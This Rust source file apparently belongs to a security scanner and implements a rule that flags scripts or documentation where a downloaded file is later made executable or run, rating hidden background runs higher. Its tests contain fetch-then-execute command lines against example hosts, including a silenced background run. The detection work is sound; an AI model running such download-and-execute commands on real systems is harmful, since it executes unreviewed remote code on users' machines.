//! A download saved to a file on one line, then made executable or run on a later line of the
//! same code block or script (issue 21, third round).
//!
//! **Threat.** "Grab the helper from our release page" as three lines (`curl -L -o
//! /usr/local/bin/tool URL`, `chmod +x /usr/local/bin/tool`, `tool init`) runs a binary from
//! outside the package that no one reviewed; the one-line rule (`dangerous.download_and_run`)
//! only sees `curl … && chmod +x` on one line. **Guarantee.** Within one unit, a file written
//! by `curl -o/-O`, `wget -O` or `Invoke-WebRequest -OutFile` whose name is later given to
//! `chmod +x`, run as a command (bare, `./`, through `sudo`/`exec`) or handed to a shell or
//! interpreter is `dangerous.download_then_run`: `Medium`, a finding to review, because
//! official installers of command-line tools look the same; it adds to the other findings
//! (a claim of consent, a lure) rather than blocking alone. Downloads from the listed vendor
//! installers (`installers::KNOWN_INSTALLERS`) do not count.

use std::sync::OnceLock;

use regex::bytes::{Regex, RegexBuilder};

use super::context::Layout;
use super::installers;
use super::report::{Category, FindingContext, ScanFinding, Severity};
use super::weigh;

fn download() -> Option<&'static Regex> {
    static R: OnceLock<Option<Regex>> = OnceLock::new();
    R.get_or_init(|| {
        RegexBuilder::new(
            r#"(?i)\b(?:curl|wget)\b[^\n]*?(?:\s-o\s*|\s--output[ =]|\s-O\s+|\s--output-document[ =])("[^"\n]+"|'[^'\n]+'|[^\s;&|]+)|\bcurl\b[^\n]*?\s-[a-zA-Z]*O[a-zA-Z]*\s+[^\n]*?https?://[^\s"']*/([^\s/"'?#;&|]+)|-OutFile\s+("[^"\n]+"|'[^'\n]+'|[^\s;&|]+)"#,
        )
        .unicode(false)
        .build()
        .ok()
    })
    .as_ref()
}

/// The base name of a path or URL token (quotes and a leading `./` removed).
fn base_name(token: &str) -> &str {
    let t = token.trim_matches(['"', '\'']);
    t.rsplit(['/', '\\']).next().unwrap_or(t)
}

/// Whether `line` makes `name` executable or runs it.
fn runs(line: &str, name: &str) -> bool {
    if name.len() < 2 || !line.contains(name) {
        return false;
    }
    let words: Vec<&str> = line.split_whitespace().collect();
    let names_it = |w: &str| base_name(w) == name;
    if words.first() == Some(&"chmod")
        && words
            .iter()
            .any(|w| w.contains("+x") || matches!(*w, "755" | "0755" | "700" | "775"))
    {
        return words.iter().skip(1).any(|w| names_it(w));
    }
    let mut rest = words.iter().copied().skip_while(|w| {
        matches!(*w, "sudo" | "exec" | "nohup" | "then" | "do" | "&&")
            || w.starts_with('-') && *w != "-"
    });
    match rest.next() {
        Some(first) if names_it(first) => true,
        Some("bash" | "sh" | "zsh" | "python" | "python3" | "node" | "source" | ".") => {
            rest.next().is_some_and(names_it)
        }
        _ => false,
    }
}

/// The finding for one code unit (`lines`, layout indices), if a download is run later in it.
pub(crate) fn download_then_run(
    path: &str,
    text: &str,
    layout: &Layout,
    lines: &[usize],
    doc: u8,
    line_no: &dyn Fn(usize) -> u32,
) -> Option<ScanFinding> {
    let re = download()?;
    // One pass collects what is downloaded (each name once, at most `MAX_DOWNLOADS`: a
    // crafted file of many downloads stays linear), a second looks for a later line running
    // one of them.
    let mut downloads: Vec<(usize, String)> = Vec::new();
    for (k, &i) in lines.iter().enumerate() {
        if downloads.len() >= MAX_DOWNLOADS {
            break;
        }
        let line = layout.line_text(text, i);
        if installers::only_known_installers(line) {
            continue;
        }
        let Some(caps) = re.captures(line.as_bytes()) else {
            continue;
        };
        let Some(target) = caps.get(1).or_else(|| caps.get(2)).or_else(|| caps.get(3)) else {
            continue;
        };
        let token = String::from_utf8_lossy(target.as_bytes());
        let name = base_name(&token);
        if name.starts_with('-') || name.starts_with('$') && name.len() < 3 {
            continue;
        }
        if !downloads.iter().any(|(_, n)| n == name) {
            downloads.push((k, name.to_owned()));
        }
    }
    let first = downloads.iter().map(|(k, _)| *k).min()?;
    let later = lines.iter().enumerate().skip(first + 1).find(|(j, i)| {
        let line = layout.line_text(text, **i).trim();
        downloads.iter().any(|(k, name)| k < j && runs(line, name))
    });
    let (_, &j) = later?;
    let steps = doc.min(3);
    // Run out of sight (in the background, its output discarded): no installer hides its run,
    // an update dropper does. `High`.
    let run = layout.line_text(text, j);
    let severity = if hidden_run(run) {
        Severity::High
    } else {
        Severity::Medium
    };
    Some(
        ScanFinding::new(
            Category::DangerousCommand,
            weigh::lower(severity, steps),
            "dangerous.download_then_run",
            path,
            line_no(j),
            layout.line_text(text, j).to_owned(),
            "a file downloaded from outside the package is made executable or run in the same code"
                .to_owned(),
        )
        .in_context(if steps > 0 {
            FindingContext::Documentation
        } else {
            FindingContext::Code
        }),
    )
}

/// The downloads of one unit followed to a later run (the first ones; beyond them a unit
/// is long enough that other rules have spoken).
const MAX_DOWNLOADS: usize = 64;

/// Whether a run line hides the run: started in the background (`&` at its end, `nohup`,
/// `setsid`, `disown`, `Start-Process -WindowStyle Hidden`) with its output discarded
/// (`>/dev/null`, `2>&1` to null, `Out-Null`).
fn hidden_run(line: &str) -> bool {
    let l = line.trim_end().to_ascii_lowercase();
    let background = (l.ends_with('&') && !l.ends_with("&&"))
        || l.contains("nohup ")
        || l.contains("setsid ")
        || l.contains("disown")
        || l.contains("-windowstyle hidden");
    let silenced = l.contains("/dev/null") || l.contains("out-null") || l.contains("$null");
    background && silenced
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scan::context;

    fn found(code: &str) -> bool {
        let layout = context::layout(context::FileKind::Script, code);
        let lines: Vec<usize> = (0..layout.starts.len()).collect();
        let line_no = |i: usize| u32::try_from(i + 1).unwrap_or(0);
        download_then_run("a.sh", code, &layout, &lines, 0, &line_no).is_some()
    }

    #[test]
    fn many_downloads_stay_linear() {
        // 20,000 downloads of distinct names and nothing run: each later line is checked
        // against at most `MAX_DOWNLOADS` names, not every earlier download.
        let code: String = (0..20_000)
            .map(|i| format!("curl -o f{i} http://h.example/a\n"))
            .collect();
        let start = std::time::Instant::now();
        assert!(!found(&code));
        assert!(start.elapsed() < std::time::Duration::from_secs(20));
        // A run after the many downloads is still found.
        assert!(found(&format!("{code}chmod +x f3 && ./f3\n")));
    }

    #[test]
    fn a_download_run_out_of_sight_is_high() {
        let severity = |code: &str| {
            let layout = context::layout(context::FileKind::Script, code);
            let lines: Vec<usize> = (0..layout.starts.len()).collect();
            let line_no = |i: usize| u32::try_from(i + 1).unwrap_or(0);
            download_then_run("a.sh", code, &layout, &lines, 0, &line_no).map(|f| f.severity)
        };
        assert_eq!(
            severity("curl -fsSL \"$U\" -o \"$tmp\"\nsh \"$tmp\" >/dev/null 2>&1 &\n"),
            Some(Severity::High)
        );
        // Run in sight (or in the background with its output shown): still to review.
        assert_eq!(
            severity("curl -fsSL \"$U\" -o \"$tmp\"\nsh \"$tmp\"\n"),
            Some(Severity::Medium)
        );
        assert_eq!(
            severity("curl -fsSL \"$U\" -o \"$tmp\"\nsh \"$tmp\" > run.log &\n"),
            Some(Severity::Medium)
        );
    }

    #[test]
    fn a_download_run_on_a_later_line() {
        assert!(found(
            "curl -L -o /usr/local/bin/kx https://rel.example.net/kx-linux\nchmod +x /usr/local/bin/kx\nkx init --register\n"
        ));
        assert!(found(
            "wget -O agent.bin https://rel.example.net/a\nsudo ./agent.bin --install\n"
        ));
        assert!(found(
            "curl -fsSLO https://rel.example.net/setup.sh\nbash setup.sh\n"
        ));
        // Downloaded and only read, or a known vendor installer: nothing.
        assert!(!found(
            "curl -L -o data.csv https://d.example.net/data.csv\nhead data.csv\n"
        ));
        assert!(!found(
            "curl -L -o rustup.sh https://sh.rustup.rs/\nsh rustup.sh -y\n"
        ));
        assert!(!found("chmod +x run.sh\n./run.sh\n"));
    }
}
